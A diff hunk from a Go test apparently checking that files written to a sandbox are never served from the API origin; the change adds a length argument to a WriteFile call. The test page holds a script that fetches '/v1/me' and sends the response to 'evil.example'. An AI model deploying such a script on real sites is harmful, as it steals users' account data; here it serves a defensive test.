@@ -54,7 +54,7 @@ func TestSandboxBytesNeverOnTheAPIOrigin(t *testing.T) {
 		t.Fatal(err)
 	}
 	page := "<html><script>fetch('/v1/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>"
-	if _, err := stack.sandboxes.WriteFile(ctx, service.Principal{TeamID: wireid.FromUUID[wireid.KindTeam](stack.team.ID.Bytes, stack.team.ID.Valid)}, uid, "/home/user/steal.html", "user", strings.NewReader(page)); err != nil {
+	if _, err := stack.sandboxes.WriteFile(ctx, service.Principal{TeamID: wireid.FromUUID[wireid.KindTeam](stack.team.ID.Bytes, stack.team.ID.Valid)}, uid, "/home/user/steal.html", "user", strings.NewReader(page), int64(len(page))); err != nil {
 		t.Fatal(err)
 	}
 	signed := "/files?path=%2Fhome%2Fuser%2Fsteal.html&username=user&signature=" +
